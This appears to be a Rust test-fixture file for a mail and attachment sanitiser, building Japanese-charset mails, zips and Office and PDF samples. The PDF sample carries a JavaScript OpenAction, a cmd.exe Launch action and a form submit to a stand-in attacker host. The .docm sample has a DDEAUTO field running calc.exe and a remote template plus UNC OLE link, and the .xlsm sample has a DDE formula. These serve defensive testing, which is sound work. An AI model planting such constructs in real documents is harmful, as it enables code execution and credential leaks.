@@ -1,0 +1,188 @@
+//! Builders for test inputs: mails in each Japanese charset, PDFs with dangerous keys, OOXML
+//! packages, zips (bombs, encrypted), images with trailing data.
+
+use std::io::{Cursor, Write};
+
+use base64::Engine as _;
+use zip::write::SimpleFileOptions;
+
+pub fn b64(bytes: &[u8]) -> String {
+    base64::engine::general_purpose::STANDARD.encode(bytes)
+}
+
+/// RFC 2047 B-encoded word in `charset` for `text`.
+pub fn encoded_word(label: &str, enc: &'static encoding_rs::Encoding, text: &str) -> String {
+    format!("=?{label}?B?{}?=", b64(&enc.encode(text).0))
+}
+
+/// A single-part text mail with the body encoded in `enc` and labelled `label`.
+pub fn text_mail(
+    label: &str,
+    enc: &'static encoding_rs::Encoding,
+    subject: &str,
+    body: &str,
+) -> Vec<u8> {
+    let mut m = format!(
+        "From: =?UTF-8?B?{}?= <sender@example.com>\r\nTo: staff@city.example.lg.jp\r\nSubject: {}\r\nDate: Wed, 25 Nov 2026 10:00:00 +0900\r\nMessage-ID: <abc@example.com>\r\nX-Spam: yes\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset={label}\r\nContent-Transfer-Encoding: base64\r\n\r\n",
+        b64("山田 太郎".as_bytes()),
+        encoded_word(label, enc, subject),
+    )
+    .into_bytes();
+    m.extend_from_slice(b64(&enc.encode(body).0).as_bytes());
+    m.extend_from_slice(b"\r\n");
+    m
+}
+
+/// A multipart/mixed mail with a text body and one attachment.
+pub fn mail_with_attachment(filename_param: &str, ctype: &str, data: &[u8]) -> Vec<u8> {
+    format!(
+        "From: sender@example.com\r\nTo: staff@example.lg.jp\r\nSubject: files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BOUND\"\r\n\r\n--BOUND\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n資料を送ります。\r\n--BOUND\r\nContent-Type: {ctype}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; {filename_param}\r\n\r\n{}\r\n--BOUND--\r\n",
+        b64(data)
+    )
+    .into_bytes()
+}
+
+/// A PDF written by hand from object bodies (numbered from 1, object 1 is the catalog).
+pub fn raw_pdf(objects: &[&str], trailer_extra: &str) -> Vec<u8> {
+    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
+    let mut offsets = Vec::new();
+    for (i, body) in objects.iter().enumerate() {
+        offsets.push(out.len());
+        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
+    }
+    let xref = out.len();
+    out.extend_from_slice(
+        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
+    );
+    for o in offsets {
+        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
+    }
+    out.extend_from_slice(
+        format!(
+            "trailer\n<< /Size {} /Root 1 0 R {trailer_extra}>>\nstartxref\n{xref}\n%%EOF\n",
+            objects.len() + 1
+        )
+        .as_bytes(),
+    );
+    out
+}
+
+/// A one-page PDF carrying every dangerous construct the engine removes.
+pub fn dangerous_pdf(obfuscate: bool) -> Vec<u8> {
+    let js = if obfuscate {
+        "/J#61vaScript"
+    } else {
+        "/JavaScript"
+    };
+    let objs = [
+        format!("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >> /Names << {js} 5 0 R /EmbeddedFiles 6 0 R >> /AcroForm << /XFA 9 0 R /Fields [] >> >>"),
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
+        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 10 0 R /Annots [7 0 R 8 0 R 11 0 R] >>".to_owned(),
+        format!("<< /Type /Action /S {js} /JS (app.alert\\(1\\)) >>"),
+        format!("<< /Names [(x) << /S {js} /JS (app.alert\\(2\\)) >>] >>"),
+        "<< /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 12 0 R >> >>] >>".to_owned(),
+        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>".to_owned(),
+        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.jp/) >> >>".to_owned(),
+        "<< /Length 5 >>\nstream\n<xdp>\nendstream".to_owned(),
+        "<< /Length 35 >>\nstream\nBT /F1 12 Tf 10 10 Td (Hello) Tj ET\nendstream".to_owned(),
+        "<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://evil.example/) >> /AA << /K 4 0 R >> >>".to_owned(),
+        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream".to_owned(),
+    ];
+    let refs: Vec<&str> = objs.iter().map(String::as_str).collect();
+    raw_pdf(&refs, "")
+}
+
+pub fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    let opts = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    for (name, data) in entries {
+        w.start_file(*name, opts).unwrap();
+        w.write_all(data).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+/// Sets the "encrypted" flag on every entry, as a password-protected (PPAP) zip has it.
+pub fn mark_encrypted(mut z: Vec<u8>) -> Vec<u8> {
+    let mut i = 0;
+    while i + 10 < z.len() {
+        if z[i..].starts_with(b"PK\x03\x04") {
+            z[i + 6] |= 1;
+        } else if z[i..].starts_with(b"PK\x01\x02") {
+            z[i + 8] |= 1;
+        }
+        i += 1;
+    }
+    z
+}
+
+const CT_DOCM: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/></Types>"#;
+
+const ROOT_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
+
+const DOC_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.lg.jp/" TargetMode="External"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="file:///\\evil\share\x.xlsx" TargetMode="External"/></Relationships>"#;
+
+const SETTINGS_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example.com/t.dotm" TargetMode="External"/></Relationships>"#;
+
+const DOCUMENT: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>お知らせ</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#;
+
+const SETTINGS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>"#;
+
+/// A .docm with a VBA project, a remote template, a linked OLE object, a hyperlink and a DDE field.
+pub fn docm() -> Vec<u8> {
+    zip_of(&[
+        ("[Content_Types].xml", CT_DOCM.as_bytes()),
+        ("_rels/.rels", ROOT_RELS.as_bytes()),
+        ("word/document.xml", DOCUMENT.as_bytes()),
+        ("word/_rels/document.xml.rels", DOC_RELS.as_bytes()),
+        ("word/settings.xml", SETTINGS.as_bytes()),
+        ("word/_rels/settings.xml.rels", SETTINGS_RELS.as_bytes()),
+        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0fake vba"),
+        ("word/vbaData.xml", b"<wne:vbaSuppData xmlns:wne=\"x\"/>"),
+        ("word/_rels/vbaProject.bin.rels", ROOT_RELS.as_bytes()),
+    ])
+}
+
+/// A .xlsm with a VBA project, an XLM macro sheet and an external connection.
+pub fn xlsm() -> Vec<u8> {
+    let ct = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/><Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>"#;
+    let root = ROOT_RELS.replace("word/document.xml", "xl/workbook.xml");
+    let wb_rels = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet2.xml"/><Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections" Target="connections.xml"/></Relationships>"#;
+    let wb = r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/><sheet name="M" sheetId="2" r:id="rId2"/></sheets></workbook>"#;
+    let sheet = r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>cmd|' /C calc'!A0</f><v>0</v></c></row></sheetData></worksheet>"#;
+    zip_of(&[
+        ("[Content_Types].xml", ct.as_bytes()),
+        ("_rels/.rels", root.as_bytes()),
+        ("xl/workbook.xml", wb.as_bytes()),
+        ("xl/_rels/workbook.xml.rels", wb_rels.as_bytes()),
+        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
+        (
+            "xl/macrosheets/sheet2.xml",
+            b"<xm:macrosheet xmlns:xm=\"x\"/>",
+        ),
+        ("xl/vbaProject.bin", b"fake"),
+        ("xl/connections.xml", b"<connections/>"),
+    ])
+}
+
+/// A small PNG.
+pub fn png() -> Vec<u8> {
+    let img = image::RgbImage::from_fn(8, 8, |x, y| image::Rgb([x as u8 * 30, y as u8 * 30, 100]));
+    let mut out = Cursor::new(Vec::new());
+    img.write_to(&mut out, image::ImageFormat::Png).unwrap();
+    out.into_inner()
+}
+
+/// A small JPEG.
+pub fn jpeg() -> Vec<u8> {
+    let img = image::RgbImage::from_fn(16, 16, |x, y| image::Rgb([x as u8 * 10, y as u8 * 10, 50]));
+    let mut out = Cursor::new(Vec::new());
+    img.write_to(&mut out, image::ImageFormat::Jpeg).unwrap();
+    out.into_inner()
+}
